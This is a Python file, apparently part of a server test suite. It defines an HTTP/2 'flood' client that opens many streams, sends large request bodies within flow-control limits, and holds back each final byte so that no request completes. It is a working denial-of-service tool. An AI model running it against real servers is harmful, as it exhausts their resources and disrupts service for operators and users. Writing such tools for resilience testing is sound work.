"""A stranger that begins many large requests on one connection and ends none, as far as the server lets it."""

from __future__ import annotations

import asyncio
import contextlib
import struct
from dataclasses import dataclass, field

from trouble import http2_frame, http2_head

DATA, HEADERS, RESET, SETTINGS, PING, WINDOW = 0, 1, 3, 4, 6, 8
INITIAL_WINDOW = 4
ACKNOWLEDGED = 1
CHUNK_BYTES = 16_000


@dataclass
class Flood:
    """`sent` bytes the server let it send; it ended the streams `ended`. Use `run`."""

    path: str
    streams_count: int
    request_bytes: int
    sent: int = 0
    ended: set[int] = field(default_factory=set)
    is_read: asyncio.Event = field(default_factory=asyncio.Event)  # the server has asked for more of a request
    _connection_window: int = 65_535
    _initial_window: int = 65_535
    _windows: dict[int, int] = field(default_factory=dict)
    _left: dict[int, int] = field(default_factory=dict)

    async def run(self, address: str, own_host: str = "127.0.0.1") -> None:
        """Send until the server has ended a stream, or until cancelled."""
        host, port = address.split(":")
        reader, writer = await asyncio.open_connection(host, int(port), local_addr=(own_host, 0))
        try:
            await self._run(reader, writer)
        finally:
            writer.close()
            with contextlib.suppress(ConnectionError):
                await writer.wait_closed()

    async def _run(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + http2_frame(SETTINGS, 0, 0, b""))
        for stream in range(1, 2 * self.streams_count, 2):
            writer.write(http2_frame(HEADERS, 4, stream, http2_head(self.path)))
            self._windows[stream] = self._initial_window
            self._left[stream] = self.request_bytes
        while not self.ended:
            self._push(writer)
            await writer.drain()
            head = await reader.readexactly(9)
            content = await reader.readexactly(int.from_bytes(head[:3], "big"))
            self._heard(writer, head[3], head[4], int.from_bytes(head[5:9], "big"), content)

    def _push(self, writer: asyncio.StreamWriter) -> None:
        for stream in self._left:
            while (left := self._left[stream]) > 1:  # the last byte never comes
                first = left == self.request_bytes
                prefix = b"\0" + struct.pack(">I", self.request_bytes) if first else b""
                room = min(self._connection_window, self._windows[stream]) - len(prefix)
                size = min(CHUNK_BYTES, room, left - 1)
                if size <= 0:
                    break
                writer.write(http2_frame(DATA, 0, stream, prefix + bytes(size)))
                self._connection_window -= size + len(prefix)
                self._windows[stream] -= size + len(prefix)
                self._left[stream] -= size
                self.sent += size

    def _heard(self, writer: asyncio.StreamWriter, kind: int, flags: int, stream: int, content: bytes) -> None:
        if kind == WINDOW:
            more = int.from_bytes(content, "big")
            if stream:
                self._windows[stream] += more
                self.is_read.set()
            else:
                self._connection_window += more
        elif kind == SETTINGS and not flags & ACKNOWLEDGED:
            for start in range(0, len(content), 6):
                key, value = struct.unpack(">HI", content[start : start + 6])
                if key == INITIAL_WINDOW:
                    for each in self._windows:
                        self._windows[each] += value - self._initial_window
                    self._initial_window = value
            writer.write(http2_frame(SETTINGS, ACKNOWLEDGED, 0, b""))
        elif kind == PING and not flags & ACKNOWLEDGED:
            writer.write(http2_frame(PING, ACKNOWLEDGED, 0, content))
        elif kind in (HEADERS, RESET):
            self.ended.add(stream)
